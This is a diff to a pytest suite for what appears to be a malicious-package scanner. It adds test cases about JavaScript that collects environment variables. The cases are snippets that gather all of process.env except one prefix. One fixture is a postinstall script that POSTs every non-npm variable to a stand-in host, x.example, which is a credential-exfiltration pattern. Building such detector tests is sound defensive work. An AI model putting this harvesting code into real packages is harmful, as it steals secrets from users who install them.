@@ -182,6 +182,37 @@ def test_usage_examples_publish_nothing_but_a_command_does(tmp_path: Path, insta
         "sent += process.env[k]; });",
         "for (const [k, v] of Object.entries(process.env)) { if (k.startsWith('npm_')) continue; "
         "sent += k + v; }",
+        # a negated test with no early exit keeps every variable but one prefix
+        "sent = Object.keys(process.env).filter(k => !k.startsWith('npm_'))"
+        ".map(k => [k, process.env[k]]);",
+        "sent = Object.keys(process.env).filter(function (k) { return !/^npm_/i.test(k); });",
+        "sent = Object.keys(process.env).filter((k) => !k.match(/^npm_/));",
+        "sent = Object.keys(process.env).filter((k) => !(k.indexOf('npm_') === 0));",
+        "sent = Object.keys(process.env).filter((k) => k.indexOf('npm_') !== 0);",
+        "sent = Object.keys(process.env).filter((k) => k.startsWith('npm_') === false);",
+        "sent = Object.keys(process.env).filter((k) => !k.toLowerCase().startsWith('npm_'));",
+        "sent = Object.keys(process.env).filter((k) => k.startsWith('npm_') ? false : true);",
+        "Object.keys(process.env).forEach((k) => { if (!k.startsWith('npm_')) sent += "
+        "process.env[k]; });",
+        "sent = Object.keys(process.env).reduce((a, k) => k.startsWith('npm_') ? a : "
+        "(a[k] = process.env[k], a), {});",
+        "sent = Object.keys(process.env).some((k) => !k.startsWith('npm_') && "
+        "post(process.env[k]));",
+        "for (const [k, v] of Object.entries(process.env)) { if (!k.startsWith('npm_')) "
+        "sent += k + v; }",
+        # an empty prefix keeps every variable
+        "sent = Object.keys(process.env).filter((k) => k.startsWith(''));",
+        'sent = Object.keys(process.env).filter((k) => k.indexOf("") === 0);',
+        "sent = Object.keys(process.env).filter((k) => /^/.test(k));",
+        "sent = Object.keys(process.env).filter((k) => /^a?/.test(k));",
+        "sent = Object.keys(process.env).filter((k) => /^npm_|/.test(k));",
+        "Object.keys(process.env).forEach((k) => { if (k.startsWith(``)) "
+        "sent += process.env[k]; });",
+        "for (const k of Object.keys(process.env)) { if (k.startsWith('')) sent += k; }",
+        # a for ... in loop walks every name too
+        "for (const k in process.env) sent += k + process.env[k];",
+        "for (var k in process.env) { if (!/^npm_/.test(k)) sent += k + process.env[k]; }",
+        "for (let k in process.env) { if (k.startsWith('npm_')) continue; sent += k; }",
     ],
 )
 def test_variables_of_one_prefix_are_no_dump_but_the_whole_environment_is(
@@ -194,6 +225,45 @@ def test_variables_of_one_prefix_are_no_dump_but_the_whole_environment_is(
     pkg = _copy(tmp_path, "env-prefix-select")
     assert _found(pkg) == {}
     _edit(pkg / "lib" / "setup.js", "module.exports", f"let sent = '';\n{dump}\nmodule.exports")
+    assert _found(pkg).get("GH-CRED-ENV-HARVEST") == "high"
+
+
+@pytest.mark.parametrize(
+    "select",
+    [
+        "sent = Object.keys(process.env).filter((k) => k.startsWith('npm_config_'));",
+        "sent = Object.keys(process.env).filter(function (k) { return /^npm_config_/.test(k); });",
+        "sent = Object.keys(process.env).filter((k) => !k.indexOf('npm_config_'));",
+        "sent = Object.keys(process.env).filter((k) => k.startsWith('npm_config_') !== false);",
+        "sent = Object.keys(process.env).filter((k) => /^npm_config_|^npm_package_/.test(k));",
+        "sent = Object.keys(process.env).reduce((a, k) => k.startsWith('VITE_') ? "
+        "(a[k] = process.env[k], a) : a, {});",
+        "Object.keys(process.env).forEach((k) => { if (!/^npm_/.test(k)) return; sent += k; });",
+        "for (const k in process.env) { if (k.startsWith('npm_config_')) sent += process.env[k]; }",
+        "for (var k in process.env) { if (k.indexOf('npm_config_') !== 0) continue; sent += k; }",
+    ],
+)
+def test_a_walk_keeping_one_non_empty_prefix_stays_no_dump(tmp_path: Path, select: str) -> None:
+    """The other side of the cases above: a test that keeps the names of one non-empty prefix
+    (``filter``, a ternary in ``reduce``, a negated test before an early exit, a ``for … in``
+    loop) is still no dump beside the install-time download."""
+    pkg = _copy(tmp_path, "env-prefix-select")
+    _edit(pkg / "lib" / "setup.js", "module.exports", f"let sent = '';\n{select}\nmodule.exports")
+    assert _found(pkg) == {}
+
+
+def test_all_but_one_prefix_posted_at_install_time_is_high(tmp_path: Path) -> None:
+    """The reviewer's case: every variable but npm's own, posted by a postinstall script."""
+    pkg = tmp_path / "env-post"
+    (pkg / "lib").mkdir(parents=True)
+    (pkg / "package.json").write_text(
+        '{"name": "env-post", "version": "1.0.0", "scripts": {"postinstall": "node lib/i.js"}}'
+    )
+    (pkg / "lib" / "i.js").write_text(
+        "const all = Object.keys(process.env).filter(k => !k.startsWith('npm_'))"
+        ".map(k => [k, process.env[k]]);\n"
+        "fetch('https://x.example/c', {method: 'POST', body: JSON.stringify(all)});\n"
+    )
     assert _found(pkg).get("GH-CRED-ENV-HARVEST") == "high"
 
 
